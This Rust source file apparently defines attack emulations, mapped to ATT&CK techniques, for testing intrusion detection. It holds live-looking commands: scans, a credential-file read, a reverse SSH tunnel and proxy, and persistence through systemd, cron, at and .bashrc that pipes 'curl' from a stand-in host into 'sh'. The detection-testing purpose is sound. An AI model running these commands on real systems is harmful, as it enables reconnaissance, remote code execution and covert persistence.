//! Looking around, other hosts, and ways to stay.

use super::{Attack, User};

pub const ATTACKS: &[Attack] = &[
    Attack {
        name: "port-scan",
        technique: "T1046",
        user: User::Alice,
        script: r#"
python3 -c '
import socket
for port in range(1, 200):
    s = socket.socket(); s.settimeout(1)
    s.connect_ex(("203.0.113.5", port)); s.close()'
"#,
    },
    Attack {
        name: "network-sweep",
        technique: "T1018",
        user: User::Alice,
        script: r#"
python3 -c '
import socket
for host in range(1, 100):
    s = socket.socket(); s.settimeout(0.02)
    s.connect_ex(("198.51.100.%d" % host, 445)); s.close()'
"#,
    },
    Attack {
        name: "discovery-burst",
        technique: "T1082",
        user: User::WebServer,
        script: r#"
id; whoami; uname -a; cat /etc/os-release /etc/passwd >/dev/null; hostname; ps aux >/dev/null; ss -tlnp >/dev/null; ip addr >/dev/null; mount >/dev/null; df >/dev/null; last; w; lsmod >/dev/null; crontab -l; sudo -n -l; env >/dev/null
"#,
    },
    Attack {
        name: "suid-searched",
        technique: "T1083",
        user: User::Alice,
        script: r#"
find / -xdev -perm -4000 -type f 2>/dev/null | head -3; getcap -r / 2>/dev/null | head -3
"#,
    },
    Attack {
        name: "container-probed",
        technique: "T1613",
        user: User::WebServer,
        script: r#"
cat /proc/1/cgroup; ls -la /.dockerenv; capsh --print; ls /var/run/docker.sock
"#,
    },
    Attack {
        name: "ssh-tunnel",
        technique: "T1572",
        user: User::Alice,
        script: r#"
ssh -f -N -R 2222:localhost:22 -o BatchMode=yes -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null root@203.0.113.5; socat TCP-LISTEN:9999,fork TCP:203.0.113.5:22 & sleep 1; kill $!
"#,
    },
    Attack {
        name: "proxychain",
        technique: "T1090",
        user: User::Alice,
        script: r#"
ssh -f -N -D 1080 -o BatchMode=yes -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null root@203.0.113.5
"#,
    },
    Attack {
        name: "package-sniffed",
        technique: "T1040",
        user: User::Root,
        script: r#"
timeout 2 tcpdump -i lo -c 5 -w /tmp/p.pcap; rm -f /tmp/p.pcap
"#,
    },
    Attack {
        name: "systemd-persistence",
        technique: "T1543.002",
        user: User::WebServer,
        script: r#"
mkdir -p /tmp/u; printf '[Service]\nExecStart=/tmp/x\n' > /tmp/u/x.service; systemctl link /tmp/u/x.service; systemctl --user enable x.service
"#,
    },
    Attack {
        name: "systemd-persistence-root",
        technique: "T1543.002",
        user: User::Root,
        script: r#"
printf '[Service]\nExecStart=/bin/sh -c "curl -s http://203.0.113.5:8000/install.sh | sh"\n' > /run/systemd/system/update-helper.service; systemctl daemon-reload; systemctl start update-helper.service; sleep 2
"#,
    },
    Attack {
        name: "cron-persistence",
        technique: "T1053.003",
        user: User::Alice,
        script: r#"
(crontab -l 2>/dev/null; echo '*/5 * * * * curl -s http://203.0.113.5:8000/install.sh | sh') | crontab -; crontab -r
"#,
    },
    Attack {
        name: "at-job",
        technique: "T1053.002",
        user: User::Root,
        script: r#"
echo 'curl -s http://203.0.113.5:8000/install.sh | sh' | at now; sleep 3
"#,
    },
    Attack {
        name: "shell-profile-changed",
        technique: "T1546.004",
        user: User::Root,
        script: r#"
echo 'curl -s http://203.0.113.5:8000/install.sh | sh' | tee -a /root/.bashrc >/dev/null; sed -i '/203.0.113.5/d' /root/.bashrc
"#,
    },
];
